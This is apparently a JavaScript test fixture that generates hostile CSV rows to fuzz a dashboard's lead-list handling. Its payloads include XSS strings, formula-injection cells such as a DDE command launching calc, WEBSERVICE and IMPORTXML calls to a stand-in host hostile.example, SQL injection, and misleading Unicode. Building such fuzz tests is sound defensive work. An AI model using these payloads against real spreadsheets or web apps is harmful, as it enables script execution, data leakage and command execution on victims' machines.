// Cells as somebody would write them who wants to harm whoever opens the list: scripts, formulas, text that turns around, signs
// that cannot be seen, very long ones, and records that are malformed.
import { Random } from "../../../web/dashboard/samples/random.mjs";

const scripts = [
  "<script>hit()</script>", `<img src=x onerror="hit()">`, `"><svg onload=hit()>`, "javascript:hit()", "{{constructor.constructor('hit()')()}}", "${hit()}", "</textarea><script>hit()</script>",
  `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`, `<a href="javascript:hit()">x</a>`, "<style>@import 'http://hostile.example/x.css'</style>", `<link rel=prefetch href=http://hostile.example/>`,
  "<base href=http://hostile.example/>", `<form action=http://hostile.example/><input autofocus onfocus=hit()>`, "<details open ontoggle=hit()>", "<!--", "-->", "]]>", "<?php hit() ?>", "<template shadowrootmode=open><script>hit()</script></template>",
];
const formulas = [
  "=1+1", "+1+1", "-1+1", "@SUM(1+1)", `=HYPERLINK("http://hostile.example/","x")`, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"http://hostile.example/\")",
  "=IMPORTXML(\"http://hostile.example/\",\"//a\")", "+", "-", "=", "@", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\n=1+1", `" =1+1`,
];
const odd = [
  "\u202egnp.exe", "\u2066abc\u2069", "\u200f\u200e", "\u200b\u200c\u200d", "\ufeffx", "Z\u0351\u0340\u0369\u031ba\u0334\u0352\u0306l\u0348g\u033co", "\u0001\u0002\u001f", "\u007f\u0085", "\u2028\u2029", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\u0301",
  "__proto__", "constructor", "toString", "null", "undefined", "NaN", "1e999", "%00%0d%0a", "..\\..\\x", "'; DROP TABLE leads; --", "' OR 1=1", "\\u003cscript\\u003e", "&lt;script&gt;hit()&lt;/script&gt;", "&#x3c;script&#x3e;",
];
const quoting = [`"`, `""`, `","`, `a"b`, `'`, ",", ";", "|", "\n", "\r\n", `"\n"`, " x ", "  ", "a,b;c\td|e"];
const long = ["x".repeat(3000), "<b>".repeat(900), "\u202e".repeat(800), "\u{1f600}".repeat(700), `=${"1+".repeat(1500)}1`];

/** Six columns that feed something, and others whose names are hostile themselves. */
export const names = ["Company", "Contact", "Email", "Phone", "State", "Specialty", `<img src=x onerror="hit()">`, "=2+2", ...Array.from({ length: 32 }, (_, i) => `Other ${i + 1}`)];
const kinds = [[scripts, 30], [formulas, 26], [odd, 22], [quoting, 16], [long, 2]];

/** Rows of a cell for each column. */
export function hostileRows(count, seed = 11) {
  const random = new Random(seed);
  const one = () => random.pick(random.weighted(kinds));
  const cell = () => random.weighted([[one(), 60], [one() + one(), 20], [`${random.pick(["Lakeside ", "ana@clinic.example ", ""])}${one()}`, 20]]);
  return Array.from({ length: count }, (_, i) => names.map((_, column) => (column === 0 && i % 5 === 0 ? `Clinic ${i}` : cell())));
}

const quoted = (text) => Buffer.from(`"${text.replaceAll('"', '""')}"`);
/** As CSV bytes: after every fifth row a record that is malformed: with a NUL, no UTF-8, too few values, too many. */
export function hostileCsv(rows) {
  const rest = ",b".repeat(names.length - 1);
  const malformed = [
    Buffer.from(`"nul \u0000"${rest}\r\n`), Buffer.concat([Buffer.from('"'), Buffer.from([0xff, 0xfe, 0x80, 0xc0, 0xaf]), Buffer.from(`"${rest}\r\n`)]),
    Buffer.from("too,few\r\n"), Buffer.from(`a${rest},too,many\r\n`),
  ];
  const parts = [Buffer.concat([...names.map(quoted).flatMap((name, i) => (i === 0 ? [name] : [Buffer.from(","), name])), Buffer.from("\r\n")])];
  let bad = 0;
  rows.forEach((row, i) => {
    parts.push(...row.map(quoted).flatMap((text, column) => (column === 0 ? [text] : [Buffer.from(","), text])), Buffer.from("\r\n"));
    if (i % 5 === 4) parts.push(malformed[bad++ % malformed.length]);
  });
  return { bytes: Buffer.concat(parts), malformed: bad };
}

/** CSV as RFC 4180 has it: rows of values. */
export function readCsv(text) {
  const rows = [[]];
  for (let at = 0; at < text.length; ) {
    const row = rows.at(-1);
    let value = "";
    if (text[at] === '"') {
      for (at += 1; ; ) {
        const end = text.indexOf('"', at);
        if (end < 0) throw new Error("a quote is not closed");
        value += text.slice(at, end);
        at = end + 1;
        if (text[at] !== '"') break;
        value += '"';
        at += 1;
      }
    } else {
      const end = /[,\r\n]|$/.exec(text.slice(at)).index;
      value = text.slice(at, at + end);
      at += end;
    }
    row.push(value);
    if (text[at] === ",") at += 1;
    else if (text.startsWith("\r\n", at)) {
      at += 2;
      if (at < text.length) rows.push([]);
    } else if (at < text.length) throw new Error(`unquoted text at ${at}`);
  }
  return rows;
}
